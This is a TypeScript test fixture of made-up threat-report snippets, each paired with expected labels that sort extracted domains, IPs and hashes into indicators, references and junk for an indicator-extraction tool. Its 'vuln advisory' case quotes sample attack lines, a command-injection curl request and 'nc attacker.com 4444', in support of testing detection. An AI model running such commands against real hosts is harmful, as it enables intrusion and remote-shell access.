import { type ArticleCase, md5, sha1, sha256 } from './article.ts';

export const BYSTANDERS: ArticleCase[] = [
  {
    name: 'false friends',
    markdown: `Malware built at 2023.10.12.1 on 10:22:33, GUID {3F2504E0-4F89-11D3-9A0C-0305E82C3301}, MAC 00:1A:2B:3C:4D:5E, UUID 3f2504e04f8911d39a0c0305e82c3301 as bot id, namespace System.Net.Http, com.android.vending, org.telegram.messenger and Microsoft.Office.Interop of the trojan. The package com.evil.bank.app. See \`install.sh\`, \`main.py\`, \`kernel32.dll\`, node.js, ASP.NET. JA3: ${md5(20)} JARM ${sha1(21)}cbc25ee7165111fe50dfe3.`,
    want: { '3f2504e04f8911d39a0c0305e82c3301': 'context', [md5(20)]: 'indicator+', 'com.evil.bank.app': 'junk' },
  },
  {
    name: 'tld files',
    markdown: `The trojan drops x.sh, run.py, archive.zip, clip.mov, readme.md, lib.rs, a.pl, doc.ps, lib.so, a.vbs, start.bat, command.com, data.cab, setup.app in the folder of the malware; the attackers run update.zip.`,
    want: {
      'x.sh': 'junk',
      'run.py': 'junk',
      'archive.zip': 'junk',
      'clip.mov': 'junk',
      'command.com': 'reference',
      'setup.app': 'junk',
      'data.cab': 'junk',
      'update.zip': 'junk',
    },
  },
  {
    name: 'benign refs',
    markdown: `Ransomware actors used AnyDesk from anydesk.com, Rclone (rclone.org), Mega (mega.nz) and ngrok. See CVE-2023-1 at nvd.nist.gov, https://attack.mitre.org/techniques/T1059/, https://www.cisa.gov/news. Report on https://www.bleepingcomputer.com/news/x and https://learn.microsoft.com/en-us/x; samples on virustotal.com. C2s: evil1[.]top, evil2[.]top.`,
    want: {
      'anydesk.com': 'reference',
      'rclone.org': 'reference',
      'mega.nz': 'reference',
      'nvd.nist.gov': 'reference',
      'https://attack.mitre.org/techniques/T1059/': 'reference',
      'https://www.bleepingcomputer.com/news/x': 'reference',
      'https://learn.microsoft.com/en-us/x': 'reference',
      'virustotal.com': 'reference',
      'evil1.top': 'indicator+',
      'evil2.top': 'indicator+',
    },
  },
  {
    name: 'victims',
    markdown: `The phishing kit imitates login.acme-bank.com, mybank.co.uk and "secure.shop.de". The fake pages stood at acme-bank-login[.]com and mybank-verify[.]top.`,
    want: {
      'login.acme-bank.com': 'reference',
      'mybank.co.uk': 'reference',
      'secure.shop.de': 'reference',
      'acme-bank-login.com': 'indicator+',
      'mybank-verify.top': 'indicator+',
    },
  },
  {
    name: 'legit tools table',
    markdown: `Ransomware operators used these tools.

| Tool | Site | Use |
| --- | --- | --- |
| AnyDesk | https://anydesk.com/ | remote access |
| Advanced IP Scanner | https://www.advanced-ip-scanner.com/ | discovery |
| WinSCP | https://winscp.net | exfiltration |

C2: 185.225.73[.]8`,
    want: {
      'https://anydesk.com/': 'reference',
      'https://www.advanced-ip-scanner.com/': 'reference',
      'https://winscp.net': 'reference',
      '185.225.73.8': 'indicator+',
    },
  },
  {
    name: 'ioc repo',
    markdown: `A campaign of the botnet.

## Indicators of Compromise

The IOCs for this blog are in our GitHub repository: https://github.com/acme-intel/iocs/tree/main/2023

For questions write to intel@acme-labs.com or visit https://www.acme-labs.com.

- 91.92.241.20`,
    want: {
      'https://github.com/acme-intel/iocs/tree/main/2023': 'reference',
      'https://www.acme-labs.com': 'reference',
      'intel@acme-labs.com': 'reference',
      '91.92.241.20': 'indicator+',
    },
  },
  {
    name: 'vendor detection names',
    markdown: `Trojan detection: Win32/Spy.Agent.QXX, Trojan.Win32.Agent.gen, HEUR:Trojan.Script.Generic, W32.Auto:abc.in03.Talos, Gen:Variant.Razy.1234, Mal/Generic-S, BackDoor.Siggen2.4423, Linux.BackDoor.Fgt.4214, JS.Downloader.5566. Malware SHA-256 ${sha256(61)}`,
    want: { [sha256(61)]: 'indicator+' },
  },
  {
    name: 'cert',
    markdown: `The malware was signed; certificate serial 0a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9, thumbprint ${sha1(70)}, serial number ${md5(71)}. C2 evil-cert[.]com`,
    want: { [sha1(70)]: 'context', [md5(71)]: 'context', 'evil-cert.com': 'indicator+' },
  },
  {
    name: 'advisory',
    markdown: `## Summary

Threat actors exploited CVE-2023-20198 in IOS XE 17.9.4a and 16.12.10.1. Fixed in FortiOS 7.4.3.2 and 7.2.7. See https://sec.cloudapps.cisco.com/security/center/x and https://nvd.nist.gov/vuln/detail/CVE-2023-20198. Run curl -k "https://DEVICEIP/webui/logoutconfirm.html" against 192.168.1.1 to check. Attackers came from 5.149.249.74 and 154.53.56.231.`,
    want: {
      'CVE-2023-20198': 'context',
      '5.149.249.74': 'indicator',
      '154.53.56.231': 'indicator',
      '16.12.10.1': 'junk',
      '7.4.3.2': 'junk',
      'https://sec.cloudapps.cisco.com/security/center/x': 'reference',
    },
  },
  {
    name: 'npm supply chain',
    markdown: `Malicious packages on npm: the packages colors-lib 1.4.2, node-hide-console and event-stream@3.3.6 steal tokens. The stealer posts to https://discord.com/api/webhooks/1234567890/abcDEF and eo1n0jq9qgggt.m.pipedream.net. Source https://github.com/evil-user/repo. Malware authors used postinstall.`,
    want: { 'https://discord.com/api/webhooks/1234567890/abcDEF': 'reference', 'eo1n0jq9qgggt.m.pipedream.net': 'indicator' },
  },
  {
    name: 'hash url text',
    markdown: `Malware on VT: https://www.virustotal.com/gui/file/${sha256(84)}/detection and https://bazaar.abuse.ch/sample/${sha256(85)}/ ; analysis https://app.any.run/tasks/3f2504e0-4f89-11d3-9a0c-0305e82c3301`,
    want: {},
  },
  {
    name: 'news article',
    markdown: `# Ransomware gang hits AcmeCorp

The LockByte ransomware gang claims an attack on AcmeCorp (acmecorp.com). In a statement on acmecorp.com/news the company said mail.acmecorp.com was offline. BleepingPost first reported. Experts at DataWatch.io say the gang runs since 2021. "We restored it," John Roe told TechTimes.com. Contact: press@acmecorp.com. Read more at www.techtimes.com/article/1.`,
    want: {
      'acmecorp.com': 'reference',
      'acmecorp.com/news': 'reference',
      'mail.acmecorp.com': 'reference',
      'datawatch.io': 'junk',
      'techtimes.com': 'junk',
      'press@acmecorp.com': 'reference',
      'www.techtimes.com/article/1': 'reference',
    },
  },
  {
    name: 'vuln advisory',
    markdown: `# RCE in WidgetServer

An attacker can exploit CVE-2024-1111 in WidgetServer 10.2.3.4 before 10.2.3.9. The patch is at https://downloads.widget-server.com/patch/10.2.3.9/setup.exe. PoC: https://github.com/someone/poc. The vulnerable endpoint is http://target:8080/api/v1/run and http://TARGET_IP/login.action.

\`\`\`
curl http://vulnerable-host.com:8080/api -d 'cmd=id'
Host: attacker.com
nc attacker.com 4444
\`\`\``,
    want: {
      'CVE-2024-1111': 'context',
      '10.2.3.4': 'junk',
      '10.2.3.9': 'junk',
      'attacker.com': 'junk',
      'https://downloads.widget-server.com/patch/10.2.3.9/setup.exe': 'indicator',
    },
  },
  {
    name: 'persistence',
    markdown: `The trojan creates the task "GoogleUpdateTask", service WinDefendSvc, key HKLM\\SYSTEM\\CurrentControlSet\\Services\\x and files C:\\ProgramData\\Microsoft\\x.dat and ~/.config/systemd/user/a.service, com.apple.updater.plist at ~/Library/LaunchAgents/com.apple.updater.plist. Bundle id com.apple.updater and org.chromium.helper.`,
    want: { 'com.apple.updater.plist': 'reference' },
  },
  {
    name: 'docs hosts',
    markdown: `The botnet used \`http://127.0.0.1:9050\`, localhost, example.com, test.local, http://[::1]/, 192.0.2.15, 198.51.100.7 and \`user@example.org\`; DNS 8.8.8.8, 1.1.1.1, 9.9.9.9; NTP pool.ntp.org; connectivity check www.msftconnecttest.com and http://www.google.com/generate_204.`,
    want: {
      'http://127.0.0.1:9050': 'junk',
      'example.com': 'junk',
      '192.0.2.15': 'junk',
      '198.51.100.7': 'junk',
      'user@example.org': 'junk',
      '8.8.8.8': 'reference',
      'pool.ntp.org': 'reference',
      'http://www.google.com/generate_204': 'reference',
    },
  },
  {
    name: 'author bio',
    markdown: `Malware analysis. C2: bio-c2[.]net.

## About the author

Jane is a researcher at acme-labs.com and blogs at janeroe.dev. Follow @janeroe, jane.roe@proton.me.

## Related posts

- https://research.acme-labs.com/two
- other-blog.net/three

Share this: facebook.com, twitter.com`,
    want: {
      'bio-c2.net': 'indicator+',
      'acme-labs.com': 'reference',
      'janeroe.dev': 'reference',
      'jane.roe@proton.me': 'reference',
      'other-blog.net/three': 'reference',
    },
  },
  {
    name: 'recommendations',
    markdown: `Malware C2: rec-c2[.]com

## Recommendations

- Block 91.92.242.50 at the firewall
- Update to version 5.1.2.3
- Follow https://www.ncsc.gov.uk/guidance and use https://pass-manager.com
- Report phishing to report@anti-phish.org`,
    want: {
      'rec-c2.com': 'indicator+',
      '91.92.242.50': 'indicator',
      '5.1.2.3': 'junk',
      'https://pass-manager.com': 'reference',
      'report@anti-phish.org': 'reference',
    },
  },
  {
    name: 'footnotes',
    markdown: `The backdoor talks to c2-foot[.]net [1].

[1] https://blog.some-research.io/post
[2]: https://other-research.io/x`,
    want: { 'c2-foot.net': 'indicator+', 'https://blog.some-research.io/post': 'reference', 'https://other-research.io/x': 'reference' },
  },
  {
    name: 'windows names',
    markdown: `The malware runs powershell.exe, rundll32.exe, cmd.exe and C:\\Windows\\System32\\svchost.exe; writes %TEMP%\\upd.exe, HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater and /etc/cron.d/x.`,
    want: { 'powershell.exe': 'reference', 'C:\\Windows\\System32\\svchost.exe': 'reference' },
  },
  {
    name: 'detections section',
    markdown: `Trojan.

## Detections

- Snort SIDs: 61234-61240
- ClamAV: Win.Trojan.Loader-10001234-0
- ET rules 2041234
- Osquery: https://github.com/Cisco-Talos/osquery_queries

## Fortinet Protections

W32/Agent.ABC!tr, MSIL/Agent.XYZ!tr.dldr. Contact us at consult@fortiguard-x.com`,
    want: { 'https://github.com/Cisco-Talos/osquery_queries': 'reference', 'consult@fortiguard-x.com': 'reference' },
  },
  {
    name: 'github iocs',
    markdown: `Malware samples and IOCs: see https://github.com/acme/iocs/blob/main/2023-10.csv, tweets https://twitter.com/x/status/1 and https://x.com/y/status/2. Sandbox: https://tria.ge/231011-abc. Reference [link](<https://www.acme-other.com/x>).`,
    want: {},
  },
  {
    name: 'targets',
    markdown: `The banking trojan steals logins.

The malware targets the following banking sites:

- some-bank.com
- other-bank.co.uk/login
- https://third-bank.de/

Its C2 servers are:

- tgt-a.top
- 91.92.244.1`,
    want: {
      'some-bank.com': 'reference',
      'other-bank.co.uk/login': 'reference',
      'https://third-bank.de/': 'reference',
      'tgt-a.top': 'indicator+',
      '91.92.244.1': 'indicator+',
    },
  },
  {
    name: 'tools',
    markdown: `Ransomware operators.

## Tools

- AnyDesk (anydesk.com)
- PCHunter – pchunter-tool.com
- https://www.softperfect.com/products/networkscanner/
- Mimikatz: https://github.com/gentilkiwi/mimikatz

## Network

Beacon to tl-a[.]top.`,
    want: {
      'anydesk.com': 'reference',
      'pchunter-tool.com': 'indicator',
      'https://www.softperfect.com/products/networkscanner/': 'indicator',
      'https://github.com/gentilkiwi/mimikatz': 'reference',
      'tl-a.top': 'indicator+',
    },
  },
  {
    name: 'after list',
    markdown: `Malware domains:

- al-a.com
- al-b.com

We thank our partners at Big Vendor for their help in this investigation and for the samples that they gave us.

More on bigvendor.com and https://bigvendor.com/blog.`,
    want: { 'al-a.com': 'indicator+', 'al-b.com': 'indicator+', 'bigvendor.com': 'reference', 'https://bigvendor.com/blog': 'indicator' },
  },
  {
    name: 'phishing title',
    markdown: `# Phishing campaign delivers loader through fake servers

Users of acme-crm.com got mails.

- Step one: the user visits portal.acme-crm.com
- Step two: the phishing page at pt-a[.]com opens
- Step three: the file invoice.pdf.exe runs; see https://vendor-help.com/steps and pt-b[.]com`,
    want: {
      'acme-crm.com': 'reference',
      'portal.acme-crm.com': 'reference',
      'pt-a.com': 'indicator+',
      'pt-b.com': 'indicator+',
      'https://vendor-help.com/steps': 'reference',
    },
  },
  {
    name: 'timeline',
    markdown: `## Timeline

- 2023-01-01: vendor informed via security@acme-soft.com
- 2023-02-01: ZDI (zerodayinitiative.com) informed
- 2023-03-01: fixed in 4.5.6.7; advisory https://acme-soft.com/advisory

An attacker could exploit the malware scanner.`,
    want: {
      'security@acme-soft.com': 'reference',
      'zerodayinitiative.com': 'reference',
      'https://acme-soft.com/advisory': 'reference',
      '4.5.6.7': 'junk',
    },
  },
  {
    name: 'exclusions',
    markdown: `The ransomware skips these.

Excluded domains:

- google.com
- update-something.com

Whitelisted IPs: 91.92.244.9`,
    want: { 'update-something.com': 'reference', '91.92.244.9': 'reference' },
  },
  {
    name: 'figure captions',
    markdown: `Figure 1: Attack chain of the malware. Source: trendvendor.com

Figure 2 – Request to fig-a[.]com

*Source: https://www.trendvendor.com/report*`,
    want: { 'trendvendor.com': 'reference', 'https://www.trendvendor.com/report': 'reference', 'fig-a.com': 'indicator+' },
  },
  {
    name: 'table versions',
    markdown: `Attackers exploit CVE-2023-9999.

| Product | Affected version | Fixed version |
| --- | --- | --- |
| FooOS | 10.2.0.1 – 10.2.5.9 | 10.2.6.0 |
| Bar | 9.1.12.4 | 9.1.13.0 |`,
    want: { '10.2.5.9': 'junk', '9.1.12.4': 'junk', '9.1.13.0': 'junk' },
  },
  {
    name: 'guids etc',
    markdown: `Malware CLSIDs {0002DF01-0000-0000-C000-000000000046}, build id ${sha1(301)}, telfhash t1${md5(302)}${md5(303)}, TLSH T1${sha256(304)}ABCDEF, Rich header hash ${md5(305)}, vhash 095056655d15551138z6, JARM ${sha1(306)}cb669c2b0ff4cf39eb4bd3, PDB C:\\Users\\a.b.c\\x.pdb, ETag "5f3-5e1b".`,
    want: { [sha1(301)]: 'context' },
  },
  {
    name: 'hash of a part of a file in a table of its properties',
    markdown: `# The Fennec loader

| SHA-256 | ${sha256(307)} |
| --- | --- |
| Rich PE hash | ${md5(308)} |
| Compiled | 2026-08-29 |`,
    want: { [sha256(307)]: 'indicator+', [md5(308)]: 'context' },
  },
  {
    name: 'news with cves only',
    markdown: `# Vendor patches flaws

Acme fixed CVE-2024-1000 and CVE-2024-1001, exploited in attacks. Admins should update from downloads.acme.com to 9.9.9.1. Researcher at bigsec.io found it; see bigsec.io/blog/acme and the advisory at https://acme.com/psirt/a.`,
    want: {
      'CVE-2024-1000': 'context',
      'CVE-2024-1001': 'context',
      'downloads.acme.com': 'reference',
      'bigsec.io': 'reference',
      'bigsec.io/blog/acme': 'reference',
      'https://acme.com/psirt/a': 'reference',
    },
  },
  {
    name: 'table of who else reported it',
    markdown: `The backdoor beacons to tern-c2[.]com and gull-c2[.]net.

| Team | URL | What it adds |
| --- | --- | --- |
| Plover Research | plover-research.com/blog/hotel-wifi-malware/ | lists \`heron-c2[.]org\` and others |`,
    want: {
      'tern-c2.com': 'indicator+',
      'gull-c2.net': 'indicator+',
      'heron-c2.org': 'indicator+',
      'plover-research.com/blog/hotel-wifi-malware/': 'reference',
    },
  },
];
